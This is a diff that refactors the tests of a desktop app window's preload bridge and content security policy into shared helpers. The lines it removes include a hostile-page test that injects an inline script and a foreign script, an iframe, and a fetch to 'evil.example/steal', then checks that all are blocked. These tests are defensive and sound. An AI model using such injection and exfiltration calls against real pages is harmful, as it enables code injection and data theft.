@@ -5,10 +5,11 @@
 import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join, resolve } from 'node:path'
-import type { Browser, Page } from 'playwright-core'
+import type { Browser } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
 import { launchChromium } from '../../e2e-harness/chromium'
 import { createFakeElectron, type FakeElectron, type Machine, type MenuTemplate } from './fake-electron'
+import { allRefused, ask, exposed, tryForeignThings } from './in-page'
 import { createFakePortPair } from './fake-ports'
 import { toPage } from './fake-window'
 
@@ -64,22 +65,6 @@ async function startWindow(options: Parameters<typeof start>[0] = {}) {
   return { electron, window, page }
 }
 
-/** Asks the host from the page, over the bridge the preload gave it. */
-function ask(page: Page, name: string, input: object = {}): Promise<unknown> {
-  return page.evaluate(
-    ([n, i]) =>
-      new Promise((done) => {
-        const bridge = globalThis as unknown as {
-          relook: { open: () => { send: (m: unknown) => void; onMessage: (l: (m: unknown) => void) => void } }
-        }
-        const port = bridge.relook.open()
-        port.onMessage(done)
-        port.send({ t: 'ask', id: 1, name: n, input: i })
-      }),
-    [name, input] as const,
-  )
-}
-
 const flat = (menu: readonly MenuTemplate[]): MenuTemplate[] =>
   menu.flatMap((entry) => [entry, ...flat(entry.submenu ?? [])])
 
@@ -106,16 +91,7 @@ describe('the desktop window', () => {
 
   test('gives the page one frozen thing, and the host through it', async () => {
     const { page } = await startWindow()
-    const bridge = await page.evaluate(() => {
-      const { relook } = globalThis as unknown as { relook: object }
-      return { keys: Object.keys(relook), frozen: Object.isFrozen(relook) }
-    })
-    expect(bridge).toEqual({ keys: ['open'], frozen: true })
-    expect(
-      await page.evaluate(() =>
-        ['require', 'process', 'module', 'ipcRenderer'].filter((n) => n in globalThis),
-      ),
-    ).toEqual([])
+    expect(await exposed(page)).toEqual({ keys: ['open'], frozen: true, inside: [] })
     expect(await ask(page, 'about')).toMatchObject({ t: 'done', value: { shell: 'desktop', dialogs: true } })
   })
 
@@ -131,22 +107,7 @@ describe('the desktop window', () => {
 
   test('runs no script that is not its own, and reaches no other place', async () => {
     const { page } = await startWindow()
-    const violations = await page.evaluate(async () => {
-      const seen: string[] = []
-      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
-      const inline = document.createElement('script')
-      inline.textContent = 'globalThis.hacked = true'
-      const foreign = document.createElement('script')
-      foreign.src = 'https://evil.example/x.js'
-      document.body.append(inline, foreign)
-      const frame = document.createElement('iframe')
-      frame.src = 'https://evil.example/'
-      document.body.append(frame)
-      await fetch('https://evil.example/steal').catch(() => undefined)
-      await new Promise((done) => setTimeout(done, 200))
-      return { seen: [...new Set(seen)].sort(), hacked: 'hacked' in globalThis }
-    })
-    expect(violations).toEqual({ seen: ['connect-src', 'frame-src', 'script-src-elem'], hacked: false })
+    expect(await tryForeignThings(page)).toEqual(allRefused)
   })
 
   test('is isolated from other origins', async () => {
@@ -255,21 +216,7 @@ describe('a hostile page', () => {
 describe('the shell around the window', () => {
   test('shows the table’s commands as native menu, and tells the window what was chosen', async () => {
     const { electron, page } = await startWindow()
-    const own = page.evaluate(
-      () =>
-        new Promise((done) => {
-          const bridge = globalThis as unknown as {
-            relook: {
-              open: () => { send: (m: unknown) => void; onMessage: (l: (m: unknown) => void) => void }
-            }
-          }
-          const port = bridge.relook.open()
-          port.onMessage((m) => {
-            if ((m as { t: string }).t === 'item') done((m as { value: unknown }).value)
-          })
-          port.send({ t: 'ask', id: 1, name: 'shell', input: {} })
-        }),
-    )
+    const own = ask(page, 'shell')
     const items = [{ id: 'test-command', title: 'Do it', menu: 'run', keys: 'Mod+Enter', enabled: true }]
     // The window sets its own menu once it is up; ours has to come after it.
     await page.getByTestId('sample-card').first().waitFor()
@@ -277,7 +224,7 @@ describe('the shell around the window', () => {
     const entry = flat(electron.seen.menus.at(-1) ?? []).find((e) => e.id === 'test-command')
     expect(entry).toMatchObject({ label: 'Do it', enabled: true, accelerator: 'CmdOrCtrl+Enter' })
     entry?.click?.()
-    expect(await own).toEqual({ type: 'command', id: 'test-command' })
+    expect(await own).toMatchObject({ t: 'item', value: { type: 'command', id: 'test-command' } })
   })
 
   test('puts the window’s own command table in the menu', async () => {
